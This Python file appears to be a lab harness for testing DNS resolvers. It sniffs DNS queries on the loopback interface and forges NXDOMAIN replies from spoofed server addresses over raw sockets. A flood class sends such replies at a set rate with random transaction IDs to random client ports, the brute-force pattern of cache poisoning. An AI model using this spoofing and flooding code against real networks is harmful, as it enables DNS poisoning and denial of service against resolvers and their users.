"""Forged replies on the lab's network: for every question that passes, or to ports at random."""
import heapq
import os
import random
import socket
import struct
import threading
import time

IPV4 = 0x0800
NXDOMAIN = 0x8583  # QR, AA, RD, RA
LATE = 0.2  # seconds after the question: the true reply has come


def forged(query, identity=None, question=None):
    """A denial of what the query asks."""
    end = query.index(0, 12) + 5  # no compression in a question
    return (query[:2] if identity is None else struct.pack("!H", identity)) + \
        struct.pack("!5H", NXDOMAIN, 1, 0, 0, 0) + (question or query[12:end])


def other_question(query):
    """The same but for one letter of the name."""
    end = query.index(0, 12) + 5
    place = next((i for i in range(13, end - 5) if chr(query[i]).isalpha()), None)
    if place is None:  # the root
        return b"\1a" + query[12:end]
    letter = b"y" if query[place] in b"xX" else b"x"
    return query[12:place] + letter + query[place + 1:end]


class Spoofer(threading.Thread):
    """Watches UDP questions over IPv4; `answer(spoofer, query, server, client)` sends what it likes.
    server and client are (address, port), the address in four bytes."""

    def __init__(self, answer):
        super().__init__(daemon=True)
        self.answer, self.sent, self.questions = answer, 0, 0
        self.late = []  # (when, arguments of send)
        self.ended = threading.Event()
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(IPV4))
        self.tap.bind(("lo", IPV4))
        self.tap.settimeout(0.02)
        self.start()

    def send(self, payload, source, target):
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0,
                             source[0], target[0])
        header += struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0)
        self.raw.sendto(header + payload, (socket.inet_ntoa(target[0]), 0))
        self.sent += 1

    def send_late(self, *arguments):
        heapq.heappush(self.late, (time.monotonic() + LATE, arguments))

    def run(self):
        while not self.ended.is_set():
            while self.late and self.late[0][0] < time.monotonic():
                self.send(*heapq.heappop(self.late)[1])
            try:
                packet, (_, _, kind, _, _) = self.tap.recvfrom(65535)
            except TimeoutError:
                continue
            if kind == socket.PACKET_HOST and packet[9] == socket.IPPROTO_UDP:
                self.see(packet)

    def see(self, packet):
        client_port, server_port = struct.unpack("!HH", packet[20:24])
        if server_port == 53 and client_port > 1023:
            self.questions += 1
            self.answer(self, packet[28:], (packet[16:20], server_port), (packet[12:16], client_port))

    def end(self):
        self.ended.set()
        self.join()


class Flood(threading.Thread):
    """So many forged replies a second from port 53 of a server, to ports at random of a client."""

    def __init__(self, spoofer, rate, query, server, client):
        super().__init__(daemon=True)
        self.spoofer, self.rate, self.query = spoofer, rate, query
        self.server, self.client = (socket.inet_aton(server), 53), socket.inet_aton(client)
        self.ended = threading.Event()
        self.begun = time.monotonic()
        self.start()

    def run(self):
        sent, numbers = 0, random.Random(os.getpid())
        while not self.ended.wait(0.005):
            due = int((time.monotonic() - self.begun) * self.rate)
            for sent in range(sent, due):
                self.spoofer.send(forged(self.query, numbers.randrange(65536)), self.server,
                                  (self.client, numbers.randrange(1024, 65536)))
            sent = max(sent, due)

    def end(self):
        self.ended.set()
        self.join()
        return time.monotonic() - self.begun
